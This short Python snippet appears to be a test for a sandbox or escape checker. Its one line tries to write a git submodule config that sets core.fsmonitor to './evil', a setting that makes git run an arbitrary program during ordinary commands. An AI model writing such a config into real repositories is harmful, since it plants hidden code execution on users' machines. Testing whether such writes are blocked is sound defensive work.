# plain: open
# process: undone
# namespace: held
from escape import *
attempt(lambda: write(".git/modules/libs/deep/config", "[core]\n\tfsmonitor = ./evil"))
